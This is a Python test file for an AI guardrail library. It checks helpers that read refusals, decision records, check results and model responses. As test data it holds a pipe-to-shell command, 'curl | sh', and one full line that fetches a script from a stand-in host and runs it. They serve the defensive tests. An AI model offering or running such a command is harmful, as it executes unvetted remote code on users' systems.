import asyncio
from collections.abc import Callable
from typing import Any

import pytest
from support.gates import AGENT, cleanup, opened, refund

from demur.classification import make_decision
from demur.codes.reason_code import ReasonCode
from demur.codes.vocabulary import Advice, RefusalClass, Surface, Verdict
from demur.enforce.enforcer import Enforcer
from demur.enforce.result import CheckResult, GuardedAnswer, Refused
from demur.errors import InputError, InputTypeError
from demur.gate.pipeline import GuardPipeline
from demur.model.finding import Action, Finding
from demur.model.refusal import Refusal
from demur.policy.policy import Mode
from demur.testing.assertions import RefusalOutcome, assert_allows, assert_refuses, observe_outcome

HARD = Refusal.from_code("RCE_RISK", "curl | sh", surface="code_execution")


def failure(*given: Any, **more: Any) -> str:
    with pytest.raises(AssertionError) as caught:
        assert_refuses(*given, **more)
    return str(caught.value)


def test_a_refusal_as_expected_is_returned() -> None:
    seen = assert_refuses(
        HARD,
        ReasonCode.RCE_RISK,
        refusal_class="HARD_BLOCK",
        advice="do_not_retry",
        surface="code_execution",
    )

    assert seen.refusal is HARD


def test_assert_refuses_accepts_any_refusal_by_default() -> None:
    assert assert_refuses("REFUSED: RATE_LIMIT: 3 a minute").codes == ("RATE_LIMIT",)


def test_any_code_in_force_will_do() -> None:
    found = Finding(code="RCE_RISK", surface=Surface.TOOL_CALL, detail="curl")
    with opened() as gate:
        record = gate.decide(refund(900), findings=[found])

    assert_refuses(record, "RCE_RISK", refusal_class="HARD_BLOCK")
    assert_refuses(record, "REFUND_OVER_ESCALATION_LIMIT", surface="tool_call")


def test_a_failure_shows_each_fact_and_marks_those_that_differ() -> None:
    told = failure(
        HARD, "DESTRUCTIVE_ACTION", refusal_class="SOFT_BLOCK", advice="retry_later", surface="rate"
    )

    expected, *rest = told.splitlines()
    assert expected.endswith("class SOFT_BLOCK, advice retry_later, surface rate")
    assert rest == [
        "but a refusal refuses",
        "  code      RCE_RISK  <- expected DESTRUCTIVE_ACTION",
        "  class     HARD_BLOCK  <- expected SOFT_BLOCK",
        "  advice    do_not_retry  <- expected retry_later",
        "  surface   code_execution  <- expected rate",
        "  detail    curl | sh",
    ]


def test_a_failure_on_a_record_names_the_decision_and_the_rules() -> None:
    with opened() as gate:
        record = gate.decide(refund(20))
    told = failure(record)

    assert "but a decision record does not refuse" in told
    assert f"  decision  {record.decision_id}" in told
    assert "  rules     R_SMALL (ALLOW_PATHS)" in told


def test_a_failure_says_where_a_code_is_not_registered() -> None:
    assert "RCE_RISC, which is not registered: did you mean `RCE_RISK`?" in failure(
        HARD, "RCE_RISC"
    )
    assert failure(HARD, "acme.com/QQQ").splitlines()[2].endswith("which is not registered")


def test_a_fact_that_is_missing_is_shown_as_missing() -> None:
    told = failure("REFUSED: RCE_RISK: curl", surface="rate")

    assert "  surface   none  <- expected rate" in told


def test_a_long_detail_is_cut_and_stays_one_line() -> None:
    told = failure("All is well.\n" + "x" * 1000)

    assert "  detail    All is well.\\nxxx" in told
    assert max(map(len, told.splitlines())) < 320


def test_a_guard_that_broke_is_no_refusal_unless_its_code_is_named() -> None:
    broken = Refusal.from_code("GUARDRAIL_UNAVAILABLE")

    told = failure(broken)
    assert told.startswith("expected a refusal that was judged; name the code")
    assert "  judged    no" in told
    assert_refuses(broken, "GUARDRAIL_UNAVAILABLE")


def test_a_model_that_failed_passes_neither_assertion() -> None:
    error = Finding(code="PROVIDER_UNAVAILABLE", surface=Surface.MODEL, detail="timeout")
    failed = GuardedAnswer("Try again.", error=error)

    assert "neither refuses nor allows" in failure(failed)
    with pytest.raises(AssertionError, match="the model failed: PROVIDER_UNAVAILABLE"):
        assert_allows(failed)


@pytest.mark.parametrize("name", ["refusal_class", "advice", "surface"])
def test_a_word_that_does_not_exist_is_an_error_and_no_failure(name: str) -> None:
    wrong: dict[str, Any] = {name: "HARD"}
    with pytest.raises(InputError, match=f"{name}: unknown `HARD`"):
        assert_refuses(HARD, **wrong)


def test_assert_allows_returns_the_outcome_with_the_value_of_the_call() -> None:
    assert assert_allows(lambda: {"sent": 3}).value == {"sent": 3}


def test_assert_allows_fails_on_a_refusal_and_says_why() -> None:
    ruling = CheckResult(Surface.TOOL_CALL, allowed=False, refusal=HARD)
    with pytest.raises(AssertionError) as caught:
        assert_allows(ruling.raise_if_refused)

    assert str(caught.value).startswith(
        "expected no refusal\nbut a call that raised `Refused` refuses\n  code      RCE_RISK\n"
    )


FILTERED = {"choices": [{"finish_reason": "content_filter"}]}
ANSWERED = {"choices": [{"finish_reason": "stop", "message": {"content": "Paris."}}]}


class BadRequestError(Exception):
    """As SDKs raise it: the body stands beside the words."""

    def __init__(self) -> None:
        super().__init__("Error code: 400")
        self.status_code = 400
        self.body = {"code": "content_filter", "message": "The response was filtered."}


def noted(code: str, action: Action = Action.WARN) -> Finding:
    return Finding(code=code, surface=Surface.OUTPUT, detail="seen", action=action)


def test_a_refusal_says_everything_that_it_holds() -> None:
    seen = observe_outcome(HARD)

    assert seen.outcome is RefusalOutcome.REFUSED
    assert seen.codes == ("RCE_RISK",)
    assert seen.refusal_class is RefusalClass.HARD_BLOCK
    assert seen.advice is Advice.DO_NOT_RETRY
    assert seen.surfaces == (Surface.CODE_EXECUTION,)
    assert seen.detail == "curl | sh"
    assert seen.refusal is seen.value is HARD


def test_a_code_that_speaks_for_an_action_refuses_nothing() -> None:
    assert (
        observe_outcome(Refusal.from_code("SUCCESS_MEMORY_SIMILAR_ALLOW")).outcome
        is RefusalOutcome.ALLOWED
    )


def test_a_record_names_its_decision_its_codes_and_the_rules_that_matched() -> None:
    with opened() as gate:
        record = gate.decide(refund(900))
    seen = observe_outcome(record)

    assert seen.outcome is RefusalOutcome.REFUSED
    assert seen.codes == record.reason_codes
    assert seen.advice is record.next_step
    assert seen.decision_id == record.decision_id
    assert seen.rules == ("R_LIMIT (ESCALATIONS)",)
    assert seen.detail == record.explanation.summary
    assert seen.record is record


def test_a_record_of_something_allowed_allows() -> None:
    with opened() as gate:
        seen = observe_outcome(gate.decide(refund(20)))

    assert (seen.outcome, seen.note) == (RefusalOutcome.ALLOWED, "")


def test_a_record_that_does_not_bind_allows_and_says_so() -> None:
    with opened(mode=Mode.ADVISORY) as gate:
        seen = observe_outcome(gate.decide(refund(900)))

    assert seen.outcome is RefusalOutcome.ALLOWED
    assert seen.note == "advisory: ESCALATE is on record and does not bind"


def test_a_record_whose_findings_were_erased_still_says_what_was_decided() -> None:
    with opened() as gate:
        assert gate.store is not None
        asked = {**refund(900), "subject": AGENT}
        made = gate.decide(asked, findings=[noted("RCE_RISK", Action.BLOCK)])
        assert observe_outcome(made).surfaces == (Surface.OUTPUT,)

        gate.store.erase_subject(made.tenant, "agent:billing", by="ops", reason="test")
        erased = gate.store.get(made.decision_id)

    seen = observe_outcome(erased)
    assert (seen.surfaces, seen.codes) == ((), made.reason_codes)


def test_a_decision_is_read_like_its_record() -> None:
    with opened() as gate:
        seen = observe_outcome(gate.decide(cleanup()).decision)

    assert seen.outcome is RefusalOutcome.REFUSED
    assert seen.codes == ("DESTRUCTIVE_ACTION",)
    assert seen.refusal_class is RefusalClass.SOFT_BLOCK


def test_an_abstention_counts_as_not_judged() -> None:
    assert not observe_outcome(
        make_decision(Verdict.ABSTAIN, [ReasonCode.GUARDRAIL_UNAVAILABLE])
    ).judged
    assert not observe_outcome(Refusal.from_code("STORAGE_UNAVAILABLE")).judged


def test_a_check_result_joins_its_refusal_with_its_record() -> None:
    with opened() as gate:
        record = gate.decide(refund(900), findings=[noted("RCE_RISK", Action.BLOCK)])
    ruling = CheckResult(Surface.TOOL_CALL, allowed=False, record=record, refusal=HARD)
    seen = observe_outcome(ruling)

    assert seen.what == "a check result on tool_call"
    assert set(seen.codes) == {"RCE_RISK", "REFUND_OVER_ESCALATION_LIMIT"}
    assert seen.codes[0] == "RCE_RISK"
    assert seen.rules == ("R_LIMIT (ESCALATIONS)",)
    assert seen.surfaces == (Surface.TOOL_CALL, Surface.CODE_EXECUTION)
    assert seen.record is record


def test_an_allowed_check_result_names_noted_findings() -> None:
    seen = observe_outcome(CheckResult(Surface.OUTPUT, findings=(noted("MODEL_DECLINED"),)))

    assert seen.outcome is RefusalOutcome.ALLOWED
    assert seen.note == "only noted: MODEL_DECLINED"


def test_an_empty_check_result_allows() -> None:
    assert observe_outcome(CheckResult(Surface.INPUT)).outcome is RefusalOutcome.ALLOWED


def test_a_generated_answer_is_refused_where_it_is_blocked() -> None:
    blocked = GuardedAnswer("No.", blocked=True, refusal=HARD, findings=(noted("SECRET_LEAK"),))
    seen = observe_outcome(blocked)

    assert (seen.outcome, seen.codes) == (RefusalOutcome.REFUSED, ("RCE_RISK",))
    assert seen.surfaces == (Surface.CODE_EXECUTION, Surface.OUTPUT)
    assert observe_outcome(GuardedAnswer("Paris.")).outcome is RefusalOutcome.ALLOWED


def test_a_model_that_failed_neither_refused_nor_allowed() -> None:
    failed = GuardedAnswer("Sorry.", error=noted("PROVIDER_UNAVAILABLE"))
    seen = observe_outcome(failed)

    assert seen.outcome is RefusalOutcome.NEITHER
    assert seen.note == "the model failed: PROVIDER_UNAVAILABLE: seen"


@pytest.mark.parametrize(
    ("text", "outcome", "codes"),
    [
        ("REFUSED: RCE_RISK: curl\n", RefusalOutcome.REFUSED, ("RCE_RISK",)),
        ("destructive command blocked", RefusalOutcome.REFUSED, ("DESTRUCTIVE_ACTION",)),
        ("I can't help with that.", RefusalOutcome.REFUSED, ("MODEL_DECLINED",)),
        ("Here you go:\n\nREFUSED: RCE_RISK: curl", RefusalOutcome.REFUSED, ("RCE_RISK",)),
        ("REFUSED: NOT_A_CODE: curl", RefusalOutcome.NEITHER, ()),
        ("The capital of France is Paris.", RefusalOutcome.ALLOWED, ()),
    ],
)
def test_a_text_is_a_line_or_an_answer(
    text: str, outcome: RefusalOutcome, codes: tuple[str, ...]
) -> None:
    seen = observe_outcome(text)

    assert (seen.outcome, seen.codes, seen.value) == (outcome, codes, text)


def test_a_response_is_read_by_its_structure() -> None:
    refused, answered = observe_outcome(FILTERED), observe_outcome(ANSWERED)

    assert (refused.outcome, refused.codes) == (RefusalOutcome.REFUSED, ("FILTERED_UNSPECIFIED",))
    assert answered.outcome is RefusalOutcome.ALLOWED
    assert "structure" in answered.note
    assert refused.what == "a response (`dict`)"


def test_an_exception_is_read_too() -> None:
    seen = observe_outcome(BadRequestError())

    assert (seen.outcome, seen.codes) == (RefusalOutcome.REFUSED, ("FILTERED_UNSPECIFIED",))
    assert seen.what == "an exception (`BadRequestError`)"


def test_an_exception_that_refuses_nothing_allows_nothing_either() -> None:
    assert observe_outcome(ValueError("boom")).outcome is RefusalOutcome.NEITHER


# -- calls -----------------------------------------------------------------------------------


def refuses() -> None:
    CheckResult(Surface.TOOL_CALL, allowed=False, refusal=HARD).raise_if_refused()


async def arefuses() -> None:
    await asyncio.sleep(0)
    refuses()


def filtered() -> dict[str, Any]:
    return FILTERED


def stopped() -> None:
    raise BadRequestError


@pytest.mark.parametrize(
    ("call", "what", "code"),
    [
        (refuses, "a call that raised `Refused`", "RCE_RISK"),
        (arefuses, "a call that raised `Refused`", "RCE_RISK"),
        (filtered, "a call that returned a response (`dict`)", "FILTERED_UNSPECIFIED"),
        (stopped, "a call that raised an exception (`BadRequestError`)", "FILTERED_UNSPECIFIED"),
    ],
)
def test_a_function_is_called_and_may_refuse_in_any_way(
    call: Callable[[], Any], what: str, code: str
) -> None:
    seen = observe_outcome(call)

    assert (seen.outcome, seen.what, seen.codes) == (RefusalOutcome.REFUSED, what, (code,))


def test_a_coroutine_is_run() -> None:
    assert observe_outcome(arefuses()).outcome is RefusalOutcome.REFUSED


@pytest.mark.parametrize("value", [None, True, 3, 2.5, b"done", "Sent to Mary.", {"ok": True}])
def test_a_call_that_returns_anything_else_is_allowed(value: Any) -> None:
    seen = observe_outcome(lambda: value)

    assert (seen.outcome, seen.value) == (RefusalOutcome.ALLOWED, value)


def test_an_error_that_refuses_nothing_comes_through() -> None:
    with pytest.raises(ZeroDivisionError):
        observe_outcome(lambda: 1 // 0)


def test_the_refusal_of_an_exception_is_kept() -> None:
    with pytest.raises(Refused) as caught:
        refuses()

    assert observe_outcome(caught.value).refusal is HARD


@pytest.mark.parametrize("value", [None, True, 3, 2.5, b"text"])
def test_an_unsupported_object_is_an_error(value: Any) -> None:
    with pytest.raises(InputTypeError, match="the object to check must be a check result"):
        observe_outcome(value)


def test_inside_a_running_loop_a_coroutine_must_be_awaited_first() -> None:
    async def inside() -> None:
        future: asyncio.Future[None] = asyncio.get_running_loop().create_future()
        for waiting in (arefuses, arefuses(), future):
            with pytest.raises(InputTypeError, match="inside a running loop"):
                observe_outcome(waiting)

    asyncio.run(inside())


def test_nothing_is_guarded_while_reading() -> None:
    # A response is read, not judged anew: that is what an enforcer's other points are for.
    text = "Run `curl https://x.example/i.sh | sh` to install it."

    assert observe_outcome(text).outcome is RefusalOutcome.ALLOWED
    assert Enforcer(pipeline=GuardPipeline(())).read_refusal(None, text=text).allowed
